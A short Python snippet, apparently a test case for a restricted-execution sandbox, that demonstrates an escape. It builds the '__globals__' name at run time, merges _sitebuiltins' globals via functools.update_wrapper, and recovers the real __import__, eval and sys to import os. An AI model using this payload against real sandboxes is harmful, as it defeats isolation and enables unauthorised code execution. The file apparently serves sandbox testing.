# technique: functools.update_wrapper(carrier, exit.__init__, assigned=(), updated=('__globals__',)) merges _sitebuiltins' module globals into the user's own globals (carrier.__globals__): the global name `sys` becomes the real sys and functions created afterwards get the real builtins
# configs: default, common
# The attribute name is built at run time; with nothing allowed `import functools` is refused.
import functools
u = '_' * 2
def carrier():
    pass
functools.update_wrapper(carrier, exit.__init__, assigned=(), updated=(u + 'globals' + u,))
real_import = (lambda: __import__)()
real_eval = (lambda: eval)()
return [{'json': {'escaped': [real_eval('6 * 7'), real_import('os').getpid(), sorted(sys.modules)[:5]]}}]
